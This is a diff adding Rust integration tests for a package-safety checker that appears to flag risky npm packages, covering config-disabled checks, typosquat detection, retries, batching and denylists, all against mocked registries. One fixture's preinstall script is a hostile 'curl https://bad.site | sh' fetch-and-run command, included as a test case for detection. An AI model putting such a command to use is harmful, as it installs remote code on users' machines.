@@ -325,3 +325,554 @@ min_weekly_downloads = 1000
     let _ = fs::remove_file(config_path);
     let _ = fs::remove_file(cache_path);
 }
+
+#[tokio::test]
+async fn check_package_honors_disabled_checks_from_config() {
+    let mock_server = MockServer::start().await;
+
+    let requested_published = (Utc::now() - Duration::days(1)).to_rfc3339();
+    let latest_published = (Utc::now() - Duration::days(30)).to_rfc3339();
+    let package_payload = serde_json::json!({
+        "dist-tags": { "latest": "4.17.21" },
+        "maintainers": [{ "name": "trusted-publisher" }],
+        "versions": {
+            "1.0.2": {
+                "scripts": {
+                    "preinstall": "curl https://bad.site | sh"
+                }
+            },
+            "4.17.21": {
+                "scripts": {}
+            }
+        },
+        "time": {
+            "1.0.2": requested_published,
+            "4.17.21": latest_published
+        }
+    });
+
+    Mock::given(method("GET"))
+        .and(path("/lodash"))
+        .respond_with(ResponseTemplate::new(200).set_body_json(package_payload))
+        .mount(&mock_server)
+        .await;
+
+    Mock::given(method("GET"))
+        .and(path("/downloads/point/last-week/lodash"))
+        .respond_with(ResponseTemplate::new(200).set_body_json(serde_json::json!({
+            "downloads": 120
+        })))
+        .mount(&mock_server)
+        .await;
+
+    Mock::given(method("POST"))
+        .and(path("/v1/query"))
+        .respond_with(ResponseTemplate::new(200).set_body_json(serde_json::json!({
+            "vulns": []
+        })))
+        .mount(&mock_server)
+        .await;
+
+    let config_path = unique_temp_path("config.toml");
+    fs::write(
+        &config_path,
+        r#"
+max_risk = "medium"
+min_weekly_downloads = 1000
+
+[checks]
+disable = ["install_script"]
+
+[checks.registry.npm]
+disable = ["staleness"]
+"#,
+    )
+    .expect("write config");
+
+    let project_config_path = unique_temp_path("project-config.toml");
+    let cache_path = unique_temp_path("cache.db");
+    let mock_uri = mock_server.uri();
+    let osv_url = format!("{mock_uri}/v1/query");
+    let config_path_value = config_path.to_string_lossy().to_string();
+    let project_config_value = project_config_path.to_string_lossy().to_string();
+    let cache_path_value = cache_path.to_string_lossy().to_string();
+
+    let check_call = call_check_package(4, r#"{"name":"lodash","version":"1.0.2"}"#);
+    let responses = send_and_receive_with_env(
+        &[INIT, INITIALIZED, &check_call],
+        2,
+        &[
+            ("SAFE_PKGS_NPM_REGISTRY_API_BASE_URL", mock_uri.as_str()),
+            ("SAFE_PKGS_NPM_DOWNLOADS_API_BASE_URL", mock_uri.as_str()),
+            (
+                "SAFE_PKGS_NPM_POPULAR_INDEX_API_BASE_URL",
+                mock_uri.as_str(),
+            ),
+            ("SAFE_PKGS_OSV_API_BASE_URL", osv_url.as_str()),
+            ("SAFE_PKGS_CONFIG_GLOBAL_PATH", config_path_value.as_str()),
+            (
+                "SAFE_PKGS_CONFIG_PROJECT_PATH",
+                project_config_value.as_str(),
+            ),
+            ("SAFE_PKGS_CACHE_DB_PATH", cache_path_value.as_str()),
+        ],
+    );
+
+    let call_resp = responses.iter().find(|item| item["id"] == 4).expect("call");
+    assert_eq!(call_resp["result"]["isError"], false);
+    let text = call_resp["result"]["content"][0]["text"]
+        .as_str()
+        .expect("tool body");
+    let body: serde_json::Value = serde_json::from_str(text).expect("response json");
+    maybe_print_test_json(
+        "check_package_honors_disabled_checks_from_config response:",
+        &body,
+    );
+    let evidence = body["evidence"].as_array().expect("evidence array");
+    let ids = evidence
+        .iter()
+        .filter_map(|item| item.get("id").and_then(serde_json::Value::as_str))
+        .collect::<Vec<_>>();
+    assert!(ids.contains(&"version_age.too_new"));
+    assert!(ids.contains(&"popularity.low_adoption_young_package"));
+    assert!(!ids.iter().any(|id| id.starts_with("install_script.")));
+    assert!(!ids.iter().any(|id| id.starts_with("staleness.")));
+
+    let _ = fs::remove_file(config_path);
+    let _ = fs::remove_file(cache_path);
+}
+
+#[tokio::test]
+async fn check_package_typosquat_uses_local_popular_names_file() {
+    let mock_server = MockServer::start().await;
+
+    let published = (Utc::now() - Duration::days(400)).to_rfc3339();
+    let package_payload = serde_json::json!({
+        "dist-tags": { "latest": "1.0.0" },
+        "maintainers": [{ "name": "someone" }],
+        "versions": {
+            "1.0.0": {
+                "scripts": {}
+            }
+        },
+        "time": {
+            "1.0.0": published
+        }
+    });
+
+    Mock::given(method("GET"))
+        .and(path("/raect"))
+        .respond_with(ResponseTemplate::new(200).set_body_json(package_payload))
+        .mount(&mock_server)
+        .await;
+
+    Mock::given(method("GET"))
+        .and(path("/downloads/point/last-week/raect"))
+        .respond_with(ResponseTemplate::new(200).set_body_json(serde_json::json!({
+            "downloads": 10
+        })))
+        .mount(&mock_server)
+        .await;
+
+    // The network popularity index must not be consulted when a local file is configured.
+    Mock::given(method("GET"))
+        .and(path("/v2/search"))
+        .respond_with(ResponseTemplate::new(500))
+        .expect(0)
+        .mount(&mock_server)
+        .await;
+
+    Mock::given(method("POST"))
+        .and(path("/v1/query"))
+        .respond_with(ResponseTemplate::new(200).set_body_json(serde_json::json!({
+            "vulns": []
+        })))
+        .mount(&mock_server)
+        .await;
+
+    let names_path = unique_temp_path("popular-names.txt");
+    fs::write(&names_path, "# offline sample\nreact\nlodash\n").expect("write names file");
+
+    let config_path = unique_temp_path("config.toml");
+    fs::write(
+        &config_path,
+        format!(
+            r#"
+max_risk = "medium"
+
+[typosquat]
+fail_open = false
+popular_names_file = "{}"
+"#,
+            names_path.to_string_lossy().replace('\\', "/")
+        ),
+    )
+    .expect("write config");
+
+    let project_config_path = unique_temp_path("project-config.toml");
+    let cache_path = unique_temp_path("cache.db");
+    let mock_uri = mock_server.uri();
+    let osv_url = format!("{mock_uri}/v1/query");
+    let config_path_value = config_path.to_string_lossy().to_string();
+    let project_config_value = project_config_path.to_string_lossy().to_string();
+    let cache_path_value = cache_path.to_string_lossy().to_string();
+
+    let check_call = call_check_package(5, r#"{"name":"raect","version":"1.0.0"}"#);
+    let responses = send_and_receive_with_env(
+        &[INIT, INITIALIZED, &check_call],
+        2,
+        &[
+            ("SAFE_PKGS_NPM_REGISTRY_API_BASE_URL", mock_uri.as_str()),
+            ("SAFE_PKGS_NPM_DOWNLOADS_API_BASE_URL", mock_uri.as_str()),
+            (
+                "SAFE_PKGS_NPM_POPULAR_INDEX_API_BASE_URL",
+                mock_uri.as_str(),
+            ),
+            ("SAFE_PKGS_OSV_API_BASE_URL", osv_url.as_str()),
+            ("SAFE_PKGS_CONFIG_GLOBAL_PATH", config_path_value.as_str()),
+            (
+                "SAFE_PKGS_CONFIG_PROJECT_PATH",
+                project_config_value.as_str(),
+            ),
+            ("SAFE_PKGS_CACHE_DB_PATH", cache_path_value.as_str()),
+        ],
+    );
+
+    let call_resp = responses.iter().find(|item| item["id"] == 5).expect("call");
+    assert_eq!(call_resp["result"]["isError"], false);
+    let text = call_resp["result"]["content"][0]["text"]
+        .as_str()
+        .expect("tool body");
+    let body: serde_json::Value = serde_json::from_str(text).expect("response json");
+    maybe_print_test_json(
+        "check_package_typosquat_uses_local_popular_names_file response:",
+        &body,
+    );
+    assert_eq!(body["allow"], false);
+    let evidence = body["evidence"].as_array().expect("evidence array");
+    let typosquat = evidence
+        .iter()
+        .find(|item| item["id"] == "typosquat.close_to_popular_name")
+        .expect("typosquat evidence");
+    assert!(
+        typosquat["message"]
+            .as_str()
+            .is_some_and(|message| message.contains("react"))
+    );
+
+    let _ = fs::remove_file(names_path);
+    let _ = fs::remove_file(config_path);
+    let _ = fs::remove_file(cache_path);
+}
+
+#[tokio::test]
+async fn check_package_retries_transient_not_found_before_reporting_missing() {
+    let mock_server = MockServer::start().await;
+
+    let published = (Utc::now() - Duration::days(10)).to_rfc3339();
+    let package_payload = serde_json::json!({
+        "dist-tags": { "latest": "1.0.0" },
+        "maintainers": [{ "name": "trusted-publisher" }],
+        "versions": {
+            "1.0.0": {
+                "scripts": {}
+            }
+        },
+        "time": {
+            "1.0.0": published
+        }
+    });
+
+    // First lookup 404s (registry blip); the retry sees the real package.
+    Mock::given(method("GET"))
+        .and(path("/flaky-lib"))
+        .respond_with(ResponseTemplate::new(404))
+        .up_to_n_times(1)
+        .with_priority(1)
+        .mount(&mock_server)
+        .await;
+    Mock::given(method("GET"))
+        .and(path("/flaky-lib"))
+        .respond_with(ResponseTemplate::new(200).set_body_json(package_payload))
+        .mount(&mock_server)
+        .await;
+
+    Mock::given(method("GET"))
+        .and(path("/downloads/point/last-week/flaky-lib"))
+        .respond_with(ResponseTemplate::new(200).set_body_json(serde_json::json!({
+            "downloads": 1000
+        })))
+        .mount(&mock_server)
+        .await;
+
+    Mock::given(method("POST"))
+        .and(path("/v1/query"))
+        .respond_with(ResponseTemplate::new(200).set_body_json(serde_json::json!({
+            "vulns": []
+        })))
+        .mount(&mock_server)
+        .await;
+
+    let config_path = unique_temp_path("config.toml");
+    fs::write(
+        &config_path,
+        r#"
+max_risk = "medium"
+
+[staleness]
+warn_age_days = 100000
+
+[existence]
+not_found_retries = 1
+not_found_retry_delay_ms = 10
+"#,
+    )
+    .expect("write config");
+
+    let project_config_path = unique_temp_path("project-config.toml");
+    let cache_path = unique_temp_path("cache.db");
+    let mock_uri = mock_server.uri();
+    let osv_url = format!("{mock_uri}/v1/query");
+    let config_path_value = config_path.to_string_lossy().to_string();
+    let project_config_value = project_config_path.to_string_lossy().to_string();
+    let cache_path_value = cache_path.to_string_lossy().to_string();
+
+    let check_call = call_check_package(5, r#"{"name":"flaky-lib","version":"1.0.0"}"#);
+    let responses = send_and_receive_with_env(
+        &[INIT, INITIALIZED, &check_call],
+        2,
+        &[
+            ("SAFE_PKGS_NPM_REGISTRY_API_BASE_URL", mock_uri.as_str()),
+            ("SAFE_PKGS_NPM_DOWNLOADS_API_BASE_URL", mock_uri.as_str()),
+            (
+                "SAFE_PKGS_NPM_POPULAR_INDEX_API_BASE_URL",
+                mock_uri.as_str(),
+            ),
+            ("SAFE_PKGS_OSV_API_BASE_URL", osv_url.as_str()),
+            ("SAFE_PKGS_CONFIG_GLOBAL_PATH", config_path_value.as_str()),
+            (
+                "SAFE_PKGS_CONFIG_PROJECT_PATH",
+                project_config_value.as_str(),
+            ),
+            ("SAFE_PKGS_CACHE_DB_PATH", cache_path_value.as_str()),
+        ],
+    );
+
+    let call_resp = responses.iter().find(|item| item["id"] == 5).expect("call");
+    assert_eq!(call_resp["result"]["isError"], false);
+    let text = call_resp["result"]["content"][0]["text"]
+        .as_str()
+        .expect("tool body");
+    let body: serde_json::Value = serde_json::from_str(text).expect("response json");
+    assert_eq!(body["allow"], true);
+    assert_eq!(body["metadata"]["latest"], "1.0.0");
+    let evidence = body["evidence"].as_array().expect("evidence array");
+    assert!(
+        evidence
+            .iter()
+            .all(|item| item["id"] != "existence.missing_package")
+    );
+
+    let _ = fs::remove_file(config_path);
+    let _ = fs::remove_file(cache_path);
+}
+
+#[tokio::test]
+async fn concurrent_check_package_calls_share_batched_lookups() {
+    use wiremock::matchers::path_regex;
+
+    let mock_server = MockServer::start().await;
+    let published = (Utc::now() - Duration::days(200)).to_rfc3339();
+    let names = ["batch-a", "batch-b", "batch-c", "batch-d"];
+
+    for name in names {
+        Mock::given(method("GET"))
+            .and(path(format!("/{name}")))
+            .respond_with(ResponseTemplate::new(200).set_body_json(serde_json::json!({
+                "dist-tags": { "latest": "1.0.0" },
+                "maintainers": [{ "name": "trusted-publisher" }],
+                "versions": { "1.0.0": { "scripts": {} } },
+                "time": { "1.0.0": published }
+            })))
+            .mount(&mock_server)
+            .await;
+    }
+
+    let bulk_downloads = names
+        .iter()
+        .map(|name| serde_json::json!({ "package": name, "downloads": 50_000 }))
+        .collect::<Vec<_>>();
+    Mock::given(method("GET"))
+        .and(path_regex(r"^/downloads/point/last-week/.+$"))
+        .respond_with(
+            ResponseTemplate::new(200)
+                .set_body_json(serde_json::json!({ "downloads": bulk_downloads })),
+        )
+        .mount(&mock_server)
+        .await;
+
+    let config_path = unique_temp_path("config.toml");
+    fs::write(
+        &config_path,
+        r#"
+[checks]
+disable = ["advisory", "typosquat"]
+"#,
+    )
+    .expect("write config");
+
+    let project_config_path = unique_temp_path("project-config.toml");
+    let cache_path = unique_temp_path("cache.db");
+    let mock_uri = mock_server.uri();
+    let config_path_value = config_path.to_string_lossy().to_string();
+    let project_config_value = project_config_path.to_string_lossy().to_string();
+    let cache_path_value = cache_path.to_string_lossy().to_string();
+
+    let calls = names
+        .iter()
+        .enumerate()
+        .map(|(index, name)| {
+            call_check_package(
+                10 + index as u64,
+                &format!(r#"{{"name":"{name}","version":"1.0.0"}}"#),
+            )
+        })
+        .collect::<Vec<_>>();
+    let mut messages = vec![INIT, INITIALIZED];
+    messages.extend(calls.iter().map(String::as_str));
+    let responses = send_and_receive_with_env(
+        &messages,
+        1 + names.len(),
+        &[
+            ("SAFE_PKGS_NPM_REGISTRY_API_BASE_URL", mock_uri.as_str()),
+            ("SAFE_PKGS_NPM_DOWNLOADS_API_BASE_URL", mock_uri.as_str()),
+            ("SAFE_PKGS_CONFIG_GLOBAL_PATH", config_path_value.as_str()),
+            (
+                "SAFE_PKGS_CONFIG_PROJECT_PATH",
+                project_config_value.as_str(),
+            ),
+            ("SAFE_PKGS_CACHE_DB_PATH", cache_path_value.as_str()),
+        ],
+    );
+
+    for index in 0..names.len() {
+        let id = 10 + index as u64;
+        let call_resp = responses
+            .iter()
+            .find(|item| item["id"] == id)
+            .expect("call response");
+        assert_eq!(call_resp["result"]["isError"], false);
+    }
+
+    let received = mock_server.received_requests().await.expect("recorded");
+    let download_requests = received
+        .iter()
+        .filter(|request| request.url.path().starts_with("/downloads/"))
+        .count();
+    assert!(
+        download_requests < names.len(),
+        "expected batched download lookups, got {download_requests} requests for {} calls",
+        names.len()
+    );
+
+    let _ = fs::remove_file(config_path);
+    let _ = fs::remove_file(cache_path);
+}
+
+#[tokio::test]
+async fn check_packages_tool_aggregates_three_specs() {
+    use wiremock::matchers::path_regex;
+
+    let mock_server = MockServer::start().await;
+    let published = (Utc::now() - Duration::days(200)).to_rfc3339();
+    let names = ["list-a", "list-b", "list-c"];
+
+    for name in names {
+        Mock::given(method("GET"))
+            .and(path(format!("/{name}")))
+            .respond_with(ResponseTemplate::new(200).set_body_json(serde_json::json!({
+                "dist-tags": { "latest": "1.0.0" },
+                "maintainers": [{ "name": "trusted-publisher" }],
+                "versions": { "1.0.0": { "scripts": {} } },
+                "time": { "1.0.0": published }
+            })))
+            .mount(&mock_server)
+            .await;
+    }
+
+    let bulk_downloads = names
+        .iter()
+        .map(|name| serde_json::json!({ "package": name, "downloads": 50_000 }))
+        .collect::<Vec<_>>();
+    Mock::given(method("GET"))
+        .and(path_regex(r"^/downloads/point/last-week/.+$"))
+        .respond_with(
+            ResponseTemplate::new(200)
+                .set_body_json(serde_json::json!({ "downloads": bulk_downloads })),
+        )
+        .mount(&mock_server)
+        .await;
+
+    let config_path = unique_temp_path("config.toml");
+    fs::write(
+        &config_path,
+        r#"
+[checks]
+disable = ["advisory", "typosquat"]
+
+[denylist]
+packages = ["list-c"]
+"#,
+    )
+    .expect("write config");
+
+    let project_config_path = unique_temp_path("project-config.toml");
+    let cache_path = unique_temp_path("cache.db");
+    let mock_uri = mock_server.uri();
+    let config_path_value = config_path.to_string_lossy().to_string();
+    let project_config_value = project_config_path.to_string_lossy().to_string();
+    let cache_path_value = cache_path.to_string_lossy().to_string();
+
+    let call = r#"{"jsonrpc":"2.0","id":3,"method":"tools/call","params":{"name":"check_packages","arguments":{"packages":[{"name":"list-a","version":"1.0.0"},{"name":"npm:list-b"},{"name":"list-c","registry":"npm"}]}}}"#;
+    let responses = send_and_receive_with_env(
+        &[INIT, INITIALIZED, call],
+        2,
+        &[
+            ("SAFE_PKGS_NPM_REGISTRY_API_BASE_URL", mock_uri.as_str()),
+            ("SAFE_PKGS_NPM_DOWNLOADS_API_BASE_URL", mock_uri.as_str()),
+            ("SAFE_PKGS_CONFIG_GLOBAL_PATH", config_path_value.as_str()),
+            (
+                "SAFE_PKGS_CONFIG_PROJECT_PATH",
+                project_config_value.as_str(),
+            ),
+            ("SAFE_PKGS_CACHE_DB_PATH", cache_path_value.as_str()),
+        ],
+    );
+
+    let call_resp = responses.iter().find(|item| item["id"] == 3).expect("call");
+    assert_eq!(call_resp["result"]["isError"], false);
+    let text = call_resp["result"]["content"][0]["text"]
+        .as_str()
+        .expect("tool body");
+    let body: serde_json::Value = serde_json::from_str(text).expect("response json");
+    maybe_print_test_json(
+        "check_packages_tool_aggregates_three_specs response:",
+        &body,
+    );
+    assert_eq!(body["allow"], false);
+    assert_eq!(body["total"], 3);
+    assert_eq!(body["denied"], 1);
+    let packages = body["packages"].as_array().expect("packages array");
+    let names_in_order = packages
+        .iter()
+        .filter_map(|package| package["package"].as_str())
+        .collect::<Vec<_>>();
+    assert_eq!(names_in_order, names);
+    assert_eq!(packages[0]["allow"], true);
+    assert_eq!(packages[1]["allow"], true);
+    assert_eq!(packages[1]["registry"], "npm");
+    assert_eq!(packages[2]["allow"], false);
+
+    let _ = fs::remove_file(config_path);
+    let _ = fs::remove_file(cache_path);
+}